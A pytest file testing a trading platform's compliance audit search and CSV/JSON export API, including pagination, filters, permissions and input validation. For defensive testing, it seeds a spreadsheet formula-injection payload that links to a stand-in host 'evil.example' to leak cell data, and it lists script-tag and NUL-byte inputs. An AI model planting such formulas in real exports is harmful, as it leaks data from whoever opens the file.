"""The audit search API (AUD-2, AUD-3, AUD-4): compliance searches and exports the ledger over
HTTP; every search and export is itself audited; bad input gets a problem and changes
nothing; nobody without compliance:audit gets anything."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone
from typing import Any

import httpx
import pytest

from tests.support.access import staff
from tests.support.api import Api, audit_events, is_problem
from tests.support.ledger import settle
from tests.support.trading import Trader, signed_in_trader
from tradeguard.access.domain import AccessLevel, Role
from tradeguard.db.engine import unit_of_work
from tradeguard.identity.guard import PERMISSION_CHECKED
from tradeguard.ledger.domain import SYSTEM, LedgerEvent, Party
from tradeguard.ledger.search.results import CSV_COLUMNS

EVENTS = "/api/v1/audit/events"
EXPORT = "/api/v1/audit/events/export"
ACCOUNT = "acc-0190a3b4"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


async def seed(api: Api) -> list[str]:
    """Trading events for ACCOUNT and another account, chained; their event ids in order."""
    ledger = api.services.deps.ledger
    ids = []
    async with unit_of_work(api.services.sessions) as session:
        for n in range(7):
            api.clock.advance(ns=1_000)
            account = ACCOUNT if n % 2 == 0 else "acc-other"
            appended = await ledger.append(
                session,
                LedgerEvent(
                    type="trading:order:placed" if n % 3 else "trading:execution:created",
                    actor=Party("user", FORMULA if n == 4 else "trader-1"),
                    subject=Party("account", account),
                    data={
                        "order_id": f"ord-{n}",
                        "account_id": account,
                        "note": 'a, "quoted"\nnote',
                    },
                ),
            )
            if account == ACCOUNT:
                ids.append(appended.event_id)
        await ledger.append(session, LedgerEvent(type="system:demo:seeded", actor=SYSTEM))
    await settle(api.engine)
    return ids


async def compliance(api: Api, client: httpx.AsyncClient, name: str = "carol") -> Trader:
    # compliance:audit is a view permission: the lowest level holds it.
    return await staff(api, client, name, Role.COMPLIANCE, AccessLevel.READ_ONLY)


async def searches(api: Api, event_type: str = "audit:events:searched") -> list[dict[str, Any]]:
    return await audit_events(api, event_type)


class TestSearch:
    @pytest.mark.spec("AUD-3", "AUD-4")
    async def test_compliance_searches_by_account_page_by_page_and_each_search_is_audited(
        self, api: Api
    ) -> None:
        expected = await seed(api)
        async with api.client() as client:
            carol = await compliance(api, client)
            first = await carol.get(EVENTS, params={"account_id": ACCOUNT, "limit": 3})
            second = await carol.get(
                EVENTS,
                params={"account_id": ACCOUNT, "limit": 3, "cursor": first.json()["next_cursor"]},
            )
        assert first.status_code == 200, first.text
        assert second.status_code == 200, second.text
        items = first.json()["items"] + second.json()["items"]
        assert second.json()["next_cursor"] is None
        assert [i["event_id"] for i in items] == expected[::-1]
        seqs = [i["seq"] for i in items]
        assert seqs == sorted(seqs, reverse=True)
        top = items[0]
        assert top["type"] == "trading:execution:created"
        assert top["subject"] == {"kind": "account", "id": ACCOUNT}
        assert top["occurred_ns"] == top["document"]["ts"]
        assert top["occurred_at"].endswith("Z")
        assert top["document"]["data"]["account_id"] == ACCOUNT
        audited = await searches(api)
        assert [e["actor"] for e in audited] == [{"kind": "staff", "id": carol.user_id}] * 2
        assert [e["data"]["filters"] for e in audited] == [{"account_id": ACCOUNT}] * 2
        assert [(e["data"]["continued"], e["data"]["returned"]) for e in audited] == [
            (False, 3),
            (True, 1),
        ]
        assert audited[0]["data"]["via"] == "api"
        # The search's own event names the account only inside its filters: it is not part
        # of the account's trail.
        async with api.client() as client:
            carol.client = client
            again = await carol.get(EVENTS, params={"account_id": ACCOUNT, "limit": 50})
        assert [i["event_id"] for i in again.json()["items"]] == expected[::-1]

    async def test_filters_combine_and_sort_oldest_first(self, api: Api) -> None:
        expected = await seed(api)
        async with api.client() as client:
            carol = await compliance(api, client)
            found = await carol.get(
                EVENTS,
                params={
                    "account_id": ACCOUNT,
                    "type": "trading:order:",
                    "actor_id": "trader-1",
                    "sort": "oldest",
                },
            )
            nothing = await carol.get(EVENTS, params={"order_id": "ord-1", "account_id": ACCOUNT})
        assert found.status_code == 200, found.text
        assert [i["event_id"] for i in found.json()["items"]] == [expected[1]]
        assert nothing.json() == {"items": [], "next_cursor": None}

    async def test_a_time_range_in_iso_8601_with_an_offset_selects_to_the_nanosecond(
        self, api: Api
    ) -> None:
        expected = await seed(api)
        async with api.client() as client:
            carol = await compliance(api, client)
            listed = await carol.get(EVENTS, params={"account_id": ACCOUNT, "sort": "oldest"})
            times = [int(i["occurred_ns"]) for i in listed.json()["items"]]
            # [second, third): the second event only; written at UTC-5 and as nanoseconds.
            start = datetime.fromtimestamp(times[1] // 10**9, tz=timezone(timedelta(hours=-5)))
            iso = start.strftime("%Y-%m-%dT%H:%M:%S") + f".{times[1] % 10**9:09d}-05:00"
            window = await carol.get(
                EVENTS, params={"account_id": ACCOUNT, "from": iso, "to": str(times[2])}
            )
        assert window.status_code == 200, window.text
        assert [i["event_id"] for i in window.json()["items"]] == [expected[1]]


def parse_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


class TestExport:
    @pytest.mark.spec("AUD-4")
    async def test_a_csv_export_streams_every_match_with_formulas_neutralised(
        self, api: Api
    ) -> None:
        expected = await seed(api)
        async with api.client() as client:
            carol = await compliance(api, client)
            response = await carol.get(EXPORT, params={"account_id": ACCOUNT, "format": "csv"})
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        rows = parse_csv(response.text)
        assert [r["event_id"] for r in rows] == expected  # oldest first
        assert response.headers["x-audit-event-count"] == str(len(expected))
        through = response.headers["x-audit-through-seq"]
        assert response.headers["content-disposition"] == (
            f'attachment; filename="audit-events-{through}.csv"'
        )
        formula = next(r for r in rows if r["event_id"] == expected[2])
        assert formula["actor_id"] == "'" + FORMULA
        # The document is the stored event, byte for byte: its data keeps the formula as data.
        document = json.loads(formula["document"])
        assert document["actor"]["id"] == FORMULA
        assert document["data"]["note"] == 'a, "quoted"\nnote'
        [exported] = await searches(api, "audit:events:exported")
        assert exported["actor"] == {"kind": "staff", "id": carol.user_id}
        assert exported["data"] == {
            "filters": {"account_id": ACCOUNT},
            "sort": "oldest",
            "format": "csv",
            "through_seq": int(through),
            "events": len(expected),
            "via": "api",
        }

    async def test_json_by_default_csv_when_the_accept_header_prefers_it(self, api: Api) -> None:
        expected = await seed(api)
        async with api.client() as client:
            carol = await compliance(api, client)
            plain = await carol.get(EXPORT, params={"account_id": ACCOUNT, "sort": "newest"})
            csv_wanted = await carol.client.get(
                EXPORT,
                params={"account_id": ACCOUNT},
                headers={**carol.headers, "Accept": "application/json;q=0.5, text/csv"},
            )
            csv_or_anything = await carol.client.get(
                EXPORT,
                params={"account_id": ACCOUNT},
                headers={**carol.headers, "Accept": "text/csv, */*"},
            )
            json_wanted = await carol.client.get(
                EXPORT,
                params={"account_id": ACCOUNT},
                headers={**carol.headers, "Accept": "text/csv;q=0.2, application/json"},
            )
        assert plain.headers["content-type"] == "application/json"
        assert [i["event_id"] for i in plain.json()] == expected[::-1]
        assert plain.json()[0]["document"]["data"]["account_id"] == ACCOUNT
        assert csv_wanted.headers["content-type"].startswith("text/csv")
        assert [r["event_id"] for r in parse_csv(csv_wanted.text)] == expected
        assert csv_or_anything.headers["content-type"].startswith("text/csv")
        assert [i["event_id"] for i in json_wanted.json()] == expected

    async def test_an_export_of_nothing_is_an_empty_document(self, api: Api) -> None:
        await seed(api)
        async with api.client() as client:
            carol = await compliance(api, client)
            as_json = await carol.get(EXPORT, params={"order_id": "no-such-order"})
            as_csv = await carol.get(EXPORT, params={"order_id": "no-such", "format": "csv"})
        assert as_json.json() == []
        assert parse_csv(as_csv.text) == []


class TestExportCap:
    @pytest.fixture
    def settings(self, settings: Any) -> Any:
        return settings.model_copy(update={"audit_export_max_events": 3})

    async def test_an_export_over_the_cap_is_refused_before_anything_is_sent(
        self, api: Api
    ) -> None:
        await seed(api)
        async with api.client() as client:
            carol = await compliance(api, client)
            refused = await carol.get(EXPORT, params={"account_id": ACCOUNT})
            allowed = await carol.get(
                EXPORT, params={"account_id": ACCOUNT, "type": "trading:order:"}
            )
        assert is_problem(refused, 422, "audit-export-too-large")
        assert refused.json()["max_events"] == 3
        assert "narrow the search" in refused.json()["detail"]
        assert allowed.status_code == 200
        assert len(allowed.json()) == 2
        assert len(await searches(api, "audit:events:exported")) == 1


BAD_INPUT: list[tuple[str, dict[str, Any], str, str]] = [
    ("type shape", {"type": "trading:order"}, "invalid-audit-search", "type"),
    ("type wildcard", {"type": "trading:*"}, "invalid-audit-search", "type"),
    (
        "from after to",
        {"from": "2026-01-02T00:00:00Z", "to": "2026-01-01T00:00:00Z"},
        "invalid-audit-search",
        "from",
    ),
    ("from no offset", {"from": "2026-01-02T00:00:00"}, "invalid-audit-search", "from"),
    ("to garbage", {"to": "<script>ZQX</script>"}, "invalid-audit-search", "to"),
    ("id with space", {"account_id": "ZQX acc"}, "invalid-audit-search", "account_id"),
    # The route guard records a staff request's account_id as sent, NUL included: it must
    # not reach the reference index (PostgreSQL text refuses NUL) and fail the request.
    ("id with NUL", {"account_id": "ZQX\x00acc"}, "invalid-audit-search", "account_id"),
    ("cursor garbage", {"cursor": "ZQX-not-a-cursor<>"}, "invalid-audit-search", "cursor"),
    ("limit zero", {"limit": 0}, "invalid-input", "limit"),
    ("limit too big", {"limit": 501}, "invalid-input", "limit"),
    ("sort unknown", {"sort": "random"}, "invalid-input", "sort"),
    ("unknown parameter", {"acount_id": "ZQX"}, "invalid-input", "acount_id"),
    ("too long", {"actor_id": "ZQX" * 34}, "invalid-input", "actor_id"),
]


def problem_errors(response: httpx.Response, slug: str) -> list[Any] | None:
    """The `errors` locations of a 422 problem of this type; None for any other answer."""
    try:
        if not is_problem(response, 422, slug):
            return None
        return [e["loc"] for e in response.json()["errors"]]
    except (KeyError, TypeError, ValueError):
        return None


class TestBadInput:
    async def test_bad_input_gets_a_problem_naming_the_parameter_and_changes_nothing(
        self, api: Api
    ) -> None:
        """Every case of BAD_INPUT, in turn, for one signed-in compliance officer."""
        failures: list[str] = []
        async with api.client() as client:
            carol = await compliance(api, client)
            for name, params, slug, parameter in BAD_INPUT:
                response = await carol.get(EVENTS, params=params)
                # The export refuses the same (and page parameters, which it does not take).
                exported = await carol.get(EXPORT, params=params)
                locations = problem_errors(response, slug)
                if locations != [["query", parameter]]:
                    failures.append(
                        f"{name}: wanted a 422 {slug} naming {parameter}, got "
                        f"{response.status_code} {response.text[:300]}"
                    )
                # What was sent (marked ZQX where it could be told from our own words) is
                # never echoed.
                if "ZQX" in response.text:
                    failures.append(f"{name}: the input is echoed: {response.text[:300]}")
                if exported.status_code != 422:
                    failures.append(
                        f"{name}: export answered {exported.status_code} {exported.text[:300]}"
                    )
                if await searches(api) != []:
                    failures.append(f"{name}: a search was recorded")
                if await searches(api, "audit:events:exported") != []:
                    failures.append(f"{name}: an export was recorded")
        assert not failures, "\n".join(failures)

    async def test_a_cursor_is_refused_with_other_filters(self, api: Api) -> None:
        await seed(api)
        async with api.client() as client:
            carol = await compliance(api, client)
            first = await carol.get(EVENTS, params={"account_id": ACCOUNT, "limit": 1})
            other = await carol.get(
                EVENTS,
                params={
                    "account_id": "acc-other",
                    "limit": 1,
                    "cursor": first.json()["next_cursor"],
                },
            )
        assert is_problem(other, 422, "invalid-audit-search")
        assert "other filters" in other.json()["detail"]
        assert len(await searches(api)) == 1

    async def test_export_takes_no_page_parameters(self, api: Api) -> None:
        async with api.client() as client:
            carol = await compliance(api, client)
            response = await carol.get(EXPORT, params={"limit": 10})
            unknown_format = await carol.get(EXPORT, params={"format": "xlsx"})
        assert is_problem(response, 422, "invalid-input")
        assert is_problem(unknown_format, 422, "invalid-input")


class TestPermission:
    @pytest.mark.parametrize(
        ("role", "level"),
        [
            (Role.SUPPORT, AccessLevel.ADMIN),
            (Role.ADMIN, AccessLevel.ADMIN),
            (Role.TRADER, None),
        ],
    )
    async def test_without_compliance_audit_nothing_is_searched_and_the_denial_is_audited(
        self, api: Api, role: Role, level: AccessLevel | None
    ) -> None:
        await seed(api)
        async with api.client() as client:
            if level is None:
                who = await signed_in_trader(api, client, "tina")
            else:
                who = await staff(api, client, "sam", role, level)
            search = await who.get(EVENTS, params={"account_id": ACCOUNT})
            export = await who.get(EXPORT, params={"format": "csv"})
        assert is_problem(search, 403, "forbidden")
        assert is_problem(export, 403, "forbidden")
        assert ACCOUNT not in search.text
        denied = [
            e
            for e in await audit_events(api, PERMISSION_CHECKED)
            if e["data"]["route"].startswith("/api/v1/audit/")
        ]
        assert [(e["data"]["route"], e["data"]["allowed"]) for e in denied] == [
            (EVENTS, False),
            (EXPORT, False),
        ]
        assert await searches(api) == []
        assert await searches(api, "audit:events:exported") == []

    async def test_without_a_token_the_answer_is_401(self, api: Api) -> None:
        async with api.client() as client:
            response = await client.get(EVENTS)
            export = await client.get(EXPORT)
        assert is_problem(response, 401, "unauthorized")
        assert is_problem(export, 401, "unauthorized")
